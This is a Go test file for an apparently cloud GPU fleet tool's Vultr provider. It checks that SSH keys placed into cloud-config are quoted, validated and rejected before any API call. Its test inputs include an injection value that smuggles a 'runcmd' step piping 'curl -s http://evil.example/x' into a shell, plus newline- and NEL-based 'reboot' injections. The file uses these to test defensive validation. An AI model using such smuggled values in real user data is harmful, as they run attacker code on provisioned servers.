package vultr

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/gpufleet/gpufleet/fleet"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// testAuthorizedKey is a real ed25519 public key line (ssh-keygen output).
const testAuthorizedKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIwOslqNgbA9THQ3Kp0UFIO9AFk4FfpiROSE12zs4tfz test@gpufleet"

// keyItems checks the shape of a CloudConfig output (the two header lines,
// then one `  - "..."` line per key, nothing at the top level) and returns
// the decoded items. Every escape yamlQuote emits means the same in Go.
func keyItems(t *testing.T, cc []byte) []string {
	t.Helper()
	lines := strings.Split(strings.TrimSuffix(string(cc), "\n"), "\n")
	require.GreaterOrEqual(t, len(lines), 2)
	assert.Equal(t, []string{"#cloud-config", "ssh_authorized_keys:"}, lines[:2])
	var out []string
	for _, l := range lines[2:] {
		require.True(t, strings.HasPrefix(l, `  - "`) && strings.HasSuffix(l, `"`), "item line %q", l)
		v, err := strconv.Unquote(strings.TrimPrefix(l, "  - "))
		require.NoError(t, err, l)
		out = append(out, v)
	}
	return out
}

func TestCloudConfigQuotesEveryKey(t *testing.T) {
	keys := []string{
		testAuthorizedKey,
		testAuthorizedKey + "\nruncmd:\n  - curl -s http://evil.example/x | sh", // injection
		"ssh-ed25519 AAAA admin: root # not a mapping",                          // ": " in the comment
		`command="echo \"hi\" \\ there" ` + testAuthorizedKey,                   // quotes, backslash
		"ssh-ed25519 AAAA José 🔑 \x00\x7f\u0085\u2028\r\t\xff end",              // controls, non-ASCII, bad UTF-8
		"  " + testAuthorizedKey + "\n",                                         // trimmed
	}
	cc := CloudConfig(keys)
	assert.NotContains(t, string(cc), "\nruncmd:")
	for _, l := range strings.Split(string(cc), "\n") {
		assert.NotContains(t, l, "\u2028")
		assert.NotContains(t, l, "\u0085")
	}
	got := keyItems(t, cc)
	want := make([]string, len(keys))
	for i, k := range keys {
		want[i] = strings.ToValidUTF8(strings.TrimSpace(k), "\ufffd")
	}
	assert.Equal(t, want, got)
	assert.Equal(t, "#cloud-config\n", string(CloudConfig(nil)))
}

func TestCheckSSHKey(t *testing.T) {
	good := []string{testAuthorizedKey, "  " + testAuthorizedKey + "\n",
		`from="10.0.0.0/8",no-pty ` + testAuthorizedKey + ` a: b "c"`}
	for _, k := range good {
		assert.NoError(t, CheckSSHKey(k), k)
	}
	bad := map[string]string{
		"injection":  testAuthorizedKey + "\nruncmd:\n  - reboot",
		"two keys":   testAuthorizedKey + "\n" + testAuthorizedKey,
		"cr":         testAuthorizedKey + "\rruncmd: [reboot]",
		"nul":        testAuthorizedKey + "\x00",
		"nel":        testAuthorizedKey + "\u0085runcmd: [reboot]",
		"bad utf-8":  testAuthorizedKey + " \xff",
		"not a key":  "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk test",
		"comment":    "# " + testAuthorizedKey,
		"empty":      "  ",
		"free text":  "hello: world",
		"private":    "-----BEGIN OPENSSH PRIVATE KEY-----",
		"type only":  "ssh-ed25519",
		"bad base64": "ssh-ed25519 !!!!",
	}
	for name, k := range bad {
		assert.ErrorIs(t, CheckSSHKey(k), fleet.ErrInvalidRequest, name)
	}
}

func TestCreateRefusesBadSSHKeysBeforeAnyCall(t *testing.T) {
	c, mt := mockClient(t)
	sent := 0
	mt.RegisterNoResponder(func(*http.Request) (*http.Response, error) { sent++; return nil, errors.New("unexpected") })
	p := NewProvider(c)
	offer := fleet.Offer{Provider: fleet.ProviderVultr, Region: "ewr", InstanceType: "vc2-1c-1gb"}
	label := fleet.Label{Fleet: "f", RequestID: "0123456789ab"}
	for _, keys := range [][]string{
		{testAuthorizedKey + "\nruncmd:\n  - curl -s http://evil.example/x | sh"},
		{testAuthorizedKey, "ssh-rsa garbage"},
		{""},
	} {
		_, err := p.Create(t.Context(), fleet.CreateRequest{Offer: offer, Label: label, SSHKeys: keys})
		assert.ErrorIs(t, err, fleet.ErrInvalidRequest, "%q", keys)
		bm := offer
		bm.BareMetal, bm.InstanceType = true, "vbm-4c-32gb"
		_, err = p.Create(t.Context(), fleet.CreateRequest{Offer: bm, Label: label, SSHKeys: keys})
		assert.ErrorIs(t, err, fleet.ErrInvalidRequest, "bare metal %q", keys)
	}
	assert.Zero(t, sent, "nothing was sent")

	// A valid key with ": " and quotes in its comment is sent, quoted.
	got := record(t, mt, "POST", "/v2/instances", 202, fixtureCreateInstance)
	key := testAuthorizedKey + ` admin: "root"`
	_, err := p.Create(t.Context(), fleet.CreateRequest{Offer: offer, Label: label, SSHKeys: []string{key}})
	require.NoError(t, err)
	require.Len(t, *got, 1)
	var body struct {
		UserData string `json:"user_data"`
	}
	require.NoError(t, json.Unmarshal((*got)[0].Body, &body))
	ud, err := base64.StdEncoding.DecodeString(body.UserData)
	require.NoError(t, err)
	assert.Equal(t, []string{key}, keyItems(t, ud))
	assert.Contains(t, string(ud), `  - "`+testAuthorizedKey+` admin: \"root\""`)
}
